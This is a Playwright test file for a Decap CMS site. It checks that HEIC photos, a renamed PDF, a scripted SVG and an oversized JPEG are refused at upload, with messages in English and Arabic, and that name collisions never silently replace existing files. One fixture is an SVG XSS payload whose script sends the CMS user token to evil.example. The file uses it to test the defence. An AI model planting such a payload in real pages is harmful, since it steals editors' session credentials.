// Uploads the site cannot clean and serve are refused at upload (issue 46, docs/images.md "Uploads"): in the real
// Decap CMS of out/admin/ against decap-server on a copy of the project, an iPhone photo (HEIC, with GPS), a PDF
// renamed .jpg, an SVG with <script>, onload and foreignObject, and a 12 MB JPEG are each refused in the media
// library with the message that says what to do (cms/upload-check.js), in English and, with the interface in
// Arabic (<html lang="ar">), in Arabic; none reaches the repository. A plain photo and a plain SVG still go in.
import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import sharp from "sharp";
import type { Page } from "@playwright/test";
import { uploadMessage } from "../cms/upload-check.js";
import { cmsProject, articleFields, body, jpeg, publish } from "./cms-support";
import { expect, test } from "./support";

const project = cmsProject("mts-cms-uploads-");

/** An iPhone photo's first bytes (an ISO media file of brand heic), with a GPS position and the camera after. */
const heic = Buffer.concat([
  Buffer.from("\0\0\0\x18ftypheic\0\0\0\0mif1heic", "latin1"),
  Buffer.from("Exif\0\0MM\0*Apple iPhone 15 Pro GPS 21 25 N 39 49 E", "latin1"),
]);
const pdf = Buffer.from("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
const svgWithScript = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)" viewBox="0 0 10 10">' +
    "<script>fetch('https://evil.example/?t='+localStorage.getItem('decap-cms-user'))</script>" +
    '<foreignObject width="10" height="10"><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>',
);
const plainSvg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#0f766e"/></svg>',
);
/** A real 12 MB JPEG: noise at full quality. */
const bigJpeg = () =>
  sharp({
    create: {
      width: 3000,
      height: 2600,
      channels: 3,
      background: "#808080",
      noise: { type: "gaussian", mean: 128, sigma: 90 },
    },
  })
    .jpeg({ quality: 100, chromaSubsampling: "4:4:4" })
    .toBuffer();

/** The files in the copy's media folder (none before the first upload makes it). */
const uploads = () => {
  const folder = join(project.dir, "public/images/uploads");
  return existsSync(folder) ? readdirSync(folder) : [];
};

/** Chooses `name` in the media library of the article's cover (already open), as an editor does. */
async function choose(page: Page, name: string, buffer: Buffer, mimeType: string) {
  await page.getByRole("dialog").locator("input[type=file]").setInputFiles({ name, mimeType, buffer });
}

/** A photo already published under `name` in the media folder: its bytes. */
async function existingPhoto(name: string) {
  const folder = join(project.dir, "public/images/uploads");
  mkdirSync(folder, { recursive: true });
  const published = await jpeg("#b91c1c", 400);
  writeFileSync(join(folder, name), published);
  return { unchanged: () => readFileSync(join(folder, name)).equals(published) };
}

/** Saves the new article whose cover was just chosen (the media library closed), and waits until it is saved. */
async function saveArticle(page: Page, slug: string, title: string, date: string, coverAlt: string) {
  await articleFields(page, "articles", { title, date, excerpt: `${title}.` });
  await page.getByRole("textbox", { name: /^Cover photo description/ }).fill(coverAlt);
  await page.getByRole("textbox", { name: /^Slug/ }).fill(slug);
  await body(page, `${title}.`);
  await publish(page);
}

/** Signs in with the interface in `lang` and opens a new article's media library. */
async function openMediaLibrary(page: Page, lang: "en" | "ar" = "en") {
  await project.open(page, "articles/new", lang);
  await page.getByRole("button", { name: lang === "ar" ? "اختيار صورة" : "Choose an image" }).click();
}

const cases = async () =>
  [
    { name: "IMG_0042.HEIC", buffer: heic, mime: "image/heic", key: "heic" },
    { name: "IMG_0043.jpg", buffer: heic, mime: "image/jpeg", key: "heic" },
    { name: "brochure.jpg", buffer: pdf, mime: "image/jpeg", key: "pdf" },
    {
      name: "logo.svg",
      buffer: svgWithScript,
      mime: "image/svg+xml",
      key: "svg",
      what: "script, foreignObject, event handlers",
    },
    { name: "office.jpg", buffer: await bigJpeg(), mime: "image/jpeg", key: "bytes" },
  ] as const;

for (const lang of ["en", "ar"] as const) {
  test(`a HEIC, a PDF named .jpg, an SVG with script and a 12 MB JPEG are refused at upload (${lang}) @full`, async ({
    page,
  }) => {
    await openMediaLibrary(page);
    // The interface's language (the Arabic interface sets it; here set by hand to see the Arabic words).
    await page.evaluate((l) => (document.documentElement.lang = l), lang);
    for (const c of await cases()) {
      if (c.key === "bytes") expect(c.buffer.length).toBeGreaterThan(11e6);
      await choose(page, c.name, c.buffer, c.mime);
      const refusal = page.getByRole("alertdialog");
      await expect(refusal).toBeVisible();
      const size = c.key === "bytes" ? { size: (c.buffer.length / 1e6).toFixed(1), limit: 8 } : {};
      const text = uploadMessage(
        { key: c.key, name: c.name, what: "what" in c ? c.what : "", ...size },
        lang,
      );
      await expect(refusal).toContainText(text);
      if (c.key === "heic")
        await expect(refusal).toContainText(lang === "ar" ? "«الأكثر توافقًا»" : "“Most Compatible”");
      await expect(refusal).toHaveAttribute("dir", lang === "ar" ? "rtl" : "ltr");
      await refusal.getByRole("button", { name: lang === "ar" ? "حسنًا" : "OK" }).click();
      await expect(refusal).toBeHidden();
    }
    // Nothing was uploaded.
    expect(uploads()).toEqual([]);
  });
}

test("a plain photo and a plain SVG are uploaded as before @full", async ({ page }) => {
  await openMediaLibrary(page);
  await choose(page, "plain.svg", plainSvg, "image/svg+xml");
  await choose(page, "cover.jpg", await jpeg("#0f766e", 600), "image/jpeg");
  await expect(page.getByRole("alertdialog")).toHaveCount(0);
  // Both reach the media library (the guard passed the editor's choice on to Decap).
  for (const name of ["plain.svg", "cover.jpg"])
    await expect(page.getByRole("dialog").getByText(name, { exact: true })).toBeVisible();
});

// Issue 48: a photo whose name is already in the media folder, uploaded from a NEW entry, replaced the cover of
// two published articles without a word. Now the editor is asked, in their language, naming the file; keeping
// both is the default (Enter, or Escape), the new photo saved as name-2.jpg, and the existing file stays as it was.
for (const lang of ["en", "ar"] as const) {
  test(`a photo named as an existing one is kept beside it by default, never replacing it (${lang}) @full`, async ({
    page,
  }) => {
    const name = `team-day-${lang}.jpg`;
    const other = `team-day-${lang}-2.jpg`;
    const { unchanged } = await existingPhoto(name);
    await openMediaLibrary(page, lang);
    // The editor's file is named as the existing one, in capitals (Decap stores names in lower case).
    await choose(page, name.toUpperCase(), await jpeg("#1d4ed8", 500), "image/jpeg");
    const question = page.getByRole("alertdialog", {
      name: uploadMessage({ key: "existsTitle", name }, lang),
    });
    await expect(question).toBeVisible();
    await expect(question).toHaveAttribute("dir", lang === "ar" ? "rtl" : "ltr");
    await expect(question).toContainText(
      uploadMessage({ key: "exists", name, folder: "public/images/uploads" }, lang),
    );
    const keep = question.getByRole("button", {
      name: uploadMessage({ key: "keepBoth", name, other }, lang),
    });
    await expect(keep).toBeFocused();
    await expect(
      question.getByRole("button", { name: uploadMessage({ key: "replace", name }, lang) }),
    ).toBeVisible();
    // The default: Enter on the focused choice.
    await page.keyboard.press("Enter");
    await expect(question).toBeHidden();
    await expect(page.getByRole("dialog").getByText(other, { exact: true })).toBeVisible();
    await page.getByRole("button", { name: lang === "ar" ? "اختيار المحدد" : "Choose selected" }).click();
    if (lang === "en") {
      // Saved with the entry: the new photo is there beside the old one, whose bytes are unchanged.
      await saveArticle(page, "team-day", "Our team day", "20/11/2026", "The team");
      await expect.poll(() => uploads().includes(other), { timeout: 15_000 }).toBe(true);
    }
    expect(unchanged()).toBe(true);
  });
}

// The other answer: "Replace" writes the editor's photo over that exact file, and only after they chose it (Decap's
// own English question about the same file is answered for them, once).
test("a photo named as an existing one replaces it only when the editor chooses Replace @full", async ({
  page,
}) => {
  const name = "office-front.jpg";
  const { unchanged } = await existingPhoto(name);
  await openMediaLibrary(page);
  await choose(page, name, await jpeg("#1d4ed8", 500), "image/jpeg");
  const question = page.getByRole("alertdialog", { name: uploadMessage({ key: "existsTitle", name }) });
  await question.getByRole("button", { name: uploadMessage({ key: "replace", name }) }).click();
  await expect(question).toBeHidden();
  await expect(page.getByRole("dialog").getByText(name, { exact: true })).toBeVisible();
  await expect(page.getByRole("dialog").getByText("office-front-2.jpg", { exact: true })).toHaveCount(0);
  await page.getByRole("button", { name: "Choose selected" }).click();
  await saveArticle(page, "office-front", "Our office", "21/11/2026", "The office's front door");
  await expect.poll(unchanged, { timeout: 15_000 }).toBe(false);
  expect(uploads()).not.toContain("office-front-2.jpg");
});
